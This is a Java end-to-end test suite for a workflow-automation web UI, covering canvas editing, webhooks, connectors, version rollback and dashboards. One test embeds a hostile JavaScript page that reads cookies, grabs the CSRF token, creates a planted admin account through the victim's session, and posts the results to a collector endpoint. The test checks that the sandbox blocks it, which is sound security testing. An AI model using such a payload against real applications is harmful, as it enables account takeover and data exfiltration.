package io.webops.ui;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.webops.TestServer;
import io.webops.testing.servers.EmbeddedArtemis;
import io.webops.testing.servers.EmbeddedSftp;
import io.webops.json.Json;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The canvas in a real browser against the real runtime: {@code ui/e2e/*.mjs} drive Debian's Chromium through
 * playwright-core (installed by the build's {@code npm ci}); screenshots go to {@code target/e2e-screenshots/}.
 * Each script signs in through the sign-in screen as {@link TestServer#ADMIN_EMAIL} (passed in its environment),
 * checks that a wrong password is refused, and signs out at the end.
 * Skipped only when the UI build itself is skipped ({@code -Dui.skip=true}).
 */
class CanvasEndToEndTest {

    private TestServer server;
    private HttpServer receiver;
    private final List<String> alerts = new CopyOnWriteArrayList<>();
    private final List<String> collected = new CopyOnWriteArrayList<>();

    @BeforeEach
    void start() throws Exception {
        Assumptions.assumeFalse(Boolean.getBoolean("webops.ui.skip"), "the UI build is skipped (-Dui.skip=true)");
        server = TestServer.start();
        receiver = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        receiver.createContext("/alert", exchange -> {
            alerts.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            byte[] ok = "{\"ok\": true}".getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().add("Content-Type", "application/json");
            exchange.sendResponseHeaders(200, ok.length);
            exchange.getResponseBody().write(ok);
            exchange.close();
        });
        receiver.createContext("/collect", exchange -> {
            collected.add(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        receiver.start();
    }

    @AfterEach
    void stop() {
        if (receiver != null) {
            receiver.stop(0);
        }
        if (server != null) {
            server.close();
        }
    }

    private static int node(String script, String... args) throws Exception {
        return node(Map.of(), script, args);
    }

    /** Runs {@code ui/e2e/<script>} with {@code env} added to its environment. */
    private static int node(Map<String, String> env, String script, String... args) throws Exception {
        Path dir = Path.of("target/e2e-screenshots");
        Files.createDirectories(dir);
        List<String> command = new java.util.ArrayList<>(List.of("node", "ui/e2e/" + script));
        command.addAll(List.of(args));
        command.add(dir.toString());
        ProcessBuilder builder = new ProcessBuilder(command).redirectErrorStream(true);
        // the scripts sign in through the sign-in screen as the server's bootstrapped admin
        builder.environment().put("WEBOPS_E2E_EMAIL", TestServer.ADMIN_EMAIL);
        builder.environment().put("WEBOPS_E2E_PASSWORD", TestServer.ADMIN_PASSWORD);
        builder.environment().putAll(env);
        Process p = builder.start();
        try (BufferedReader out = new BufferedReader(new InputStreamReader(p.getInputStream(), StandardCharsets.UTF_8))) {
            out.lines().forEach(line -> System.out.println("[" + script + "] " + line));
        }
        if (!p.waitFor(5, TimeUnit.MINUTES)) {
            p.destroyForcibly();
            throw new AssertionError(script + " did not finish");
        }
        return p.exitValue();
    }

    @Test
    void buildsTheApiMonitoringWorkflowOnAnEmptyCanvasWatchesItRunAndReadsTheFailingNode() throws Exception {
        String alertUrl = "http://127.0.0.1:" + receiver.getAddress().getPort() + "/alert";

        int exit = node("canvas.mjs", server.base, alertUrl);

        assertThat(exit).as("ui/e2e/canvas.mjs exit code (its output is above)").isZero();
        assertThat(alerts).as("the alert node posted once, in the webhook-triggered run").hasSize(1);
        assertThat(alerts.get(0)).contains("UP");
    }

    @Test
    void aWebhookAnswerWithAScriptRunsSandboxedNotAsTheSignedInAdminWhoOpensIt() throws Exception {
        String collector = "http://127.0.0.1:" + receiver.getAddress().getPort() + "/collect";
        // what a workflow author can answer: a page whose script uses the visitor's session to make itself an admin
        String page = """
                <!doctype html><title>untouched</title><pre id="marker">untouched</pre>
                <script>
                (async function () {
                  var report = {};
                  try { report.cookie = document.cookie; } catch (e) { report.cookie = 'threw ' + e.name; }
                  var csrf = (/(?:^|; )webops_csrf=([^;]*)/.exec(report.cookie) || [])[1] || '';
                  try {
                    var created = await fetch('/api/users', {method: 'POST', credentials: 'include',
                      headers: {'X-CSRF-Token': csrf, 'Content-Type': 'application/json'},
                      body: JSON.stringify({email: 'planted@webops.test', password: 'planted-password-1', role: 'admin'})});
                    report.post = created.status;
                  } catch (e) { report.post = 'failed: ' + e.message; }
                  try {
                    var users = await fetch('/api/users', {credentials: 'include'});
                    report.get = users.status + ' ' + (await users.text()).slice(0, 200);
                  } catch (e) { report.get = 'failed: ' + e.message; }
                  document.title = 'ran';
                  document.getElementById('marker').textContent = JSON.stringify(report);
                  fetch('COLLECTOR', {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
                })();
                </script>""".replace("COLLECTOR", collector);
        String id = server.create(Json.write(Map.of(
                "name", "answers a page",
                "trigger", Map.of("type", "webhook", "path", "page", "method", "GET", "respond", "when_finished"),
                "nodes", List.of(Map.of("id", "in", "type", "webhook_input"),
                        Map.of("id", "r", "type", "respond", "config", Map.of(
                                "headers", Map.of("Content-Type", "text/html; charset=utf-8"), "body", page))),
                "connections", List.of(Map.of("source", "in", "target", "r")))));
        assertThat(server.post("/api/workflows/" + id + "/activate", "{}").status()).isEqualTo(200);
        String usersBefore = users();

        int exit = node("webhook-sandbox.mjs", server.base, server.base + "/webhooks/page");

        assertThat(exit).as("ui/e2e/webhook-sandbox.mjs exit code (its output is above)").isZero();
        assertThat(collected).as("what the author's script reported home").isEmpty();
        assertThat(users()).as("the accounts after the admin opened the page").isEqualTo(usersBefore)
                .doesNotContain("planted@webops.test", "probe@webops.test");
    }

    /** The accounts' emails, as the admin sees them through the API. */
    private String users() throws Exception {
        List<String> emails = new ArrayList<>();
        server.get("/api/users").json().get("items").forEach(u -> emails.add(u.get("email").asText()));
        return String.join(",", emails);
    }

    @Test
    void editsOnTheCanvasWithTheKeyboardUndoAndCopyAndWatchesARunLive() throws Exception {
        int exit = node("editing.mjs", server.base);

        assertThat(exit).as("ui/e2e/editing.mjs exit code (its output is above)").isZero();
    }

    @Test
    void buildsAnSftpToJmsWorkflowFromConnectorKameletsAndAFileBecomesAMessage() throws Exception {
        try (EmbeddedSftp sftp = EmbeddedSftp.start(); EmbeddedArtemis artemis = EmbeddedArtemis.start()) {
            // the file waits on the server: the workflow picks it up once the script has activated it
            sftp.put("inbox/order.txt", "Ada Lovelace");
            int exit = node(Map.of(
                    "WEBOPS_E2E_SFTP_HOST", sftp.host(), "WEBOPS_E2E_SFTP_PORT", String.valueOf(sftp.port()),
                    "WEBOPS_E2E_SFTP_USER", sftp.user(), "WEBOPS_E2E_SFTP_PASSWORD", sftp.password(),
                    "WEBOPS_E2E_SFTP_DIR", "inbox", "WEBOPS_E2E_JMS_BROKER_URL", artemis.brokerUrl(),
                    "WEBOPS_E2E_JMS_QUEUE", "webops-out", "WEBOPS_E2E_TEMPLATE", "From SFTP: {{ data.body }}",
                    "WEBOPS_E2E_WAIT_RUN_SECONDS", "60"), "kamelets.mjs", server.base);

            assertThat(exit).as("ui/e2e/kamelets.mjs exit code (its output is above)").isZero();
            String message = artemis.receiveText("webops-out", java.time.Duration.ofSeconds(30));
            assertThat(message).isNotNull();
            // a text output reaches the next node under its id (§4), and the sink sends its input as JSON text
            assertThat(io.webops.json.Json.parse(message)).isEqualTo(io.webops.json.Json.parse(
                    "{\"transform_1\": \"From SFTP: Ada Lovelace\"}"));
        }
    }

    @Test
    void pinsDataRunsToANodeAndReplaysFromIt() throws Exception {
        int exit = node("replay.mjs", server.base);

        assertThat(exit).as("ui/e2e/replay.mjs exit code (its output is above)").isZero();
    }

    @Test
    void opensAnExecutionInTheVersionItRanComparesVersionsAndRollsBack() throws Exception {
        String version1 = """
                {"name": "Versioned", "nodes": [{"id": "in", "type": "webhook_input", "position": {"x": 40, "y": 40}},
                  {"id": "old", "type": "transform", "position": {"x": 320, "y": 40},
                   "config": {"type": "jmespath", "query": "{said: 'old'}"}}],
                 "connections": [{"source": "in", "target": "old"}]}""";
        String id = server.create(version1);
        String ranVersion1 = server.runAndWait(id, Map.of()).get("id").asText();
        assertThat(server.put("/api/workflows/" + id, version1.replace("old", "added")).status()).isEqualTo(200);

        int exit = node("versions.mjs", server.base, id, ranVersion1);

        assertThat(exit).as("ui/e2e/versions.mjs exit code (its output is above)").isZero();
        var current = server.get("/api/workflows/" + id + "/versions/3").json();
        assertThat(current.get("message").asText()).isEqualTo("Rolled back to version 1");
        assertThat(current.get("nodes").get(1).get("id").asText()).isEqualTo("old");
    }

    @Test
    void readsNotificationsAndTheDashboardManagesAgentsAndUsersAndFiltersTheAuditLog() throws Exception {
        String notify = server.create("""
                {"name": "Deploy notice", "nodes": [{"id": "note", "type": "notification",
                  "config": {"message": "Deploy 42 finished"}}], "connections": []}""");
        server.runAndWait(notify, Map.of());
        String sync = server.create(failingWhenNotOk("Nightly CRM sync"));
        for (boolean ok : new boolean[] {false, true, false}) {
            server.runAndWait(sync, Map.of("ok", ok));
        }
        String ping = server.create(failingWhenNotOk("Ping"));
        server.runAndWait(ping, Map.of("ok", true));
        server.runAndWait(ping, Map.of("ok", true));
        assertThat(server.put("/api/agents/keeper", Map.of("name", "Keeper", "system_prompt", "Keep.", "tools", List.of(),
                "memory_size", 0)).status()).isEqualTo(200);
        String remember = server.create("""
                {"name": "Remember", "nodes": [{"id": "m", "type": "agent_memory",
                  "config": {"agent": "keeper", "operation": "store", "key": "{{ data.key }}", "content": "{{ data.content }}"}}],
                 "connections": []}""");
        server.runAndWait(remember, Map.of("key", "db", "content", "Postgres 16"));
        server.runAndWait(remember, Map.of("key", "oncall", "content", "Ada this week"));

        int exit = node("pages.mjs", server.base);

        assertThat(exit).as("ui/e2e/pages.mjs exit code (its output is above)").isZero();
        assertThat(server.get("/api/notifications?unread=true").json().get("items")).isEmpty();
        assertThat(server.get("/api/agents/refund-desk").json().get("system_prompt").asText()).isEqualTo("You handle refunds.");
        assertThat(users()).contains("bob@pages.test");
    }

    /** A workflow whose one code node fails when the input's {@code ok} is false. */
    private static String failingWhenNotOk(String name) {
        return """
                {"name": "%s", "nodes": [{"id": "in", "type": "webhook_input"},
                  {"id": "code", "type": "custom_code", "config": {"language": "javascript",
                   "code": "if (!input.ok) { throw new Error('not ok'); } return input;", "timeout_ms": 1000, "memory_mb": 64}}],
                 "connections": [{"source": "in", "target": "code"}]}""".formatted(name);
    }
}
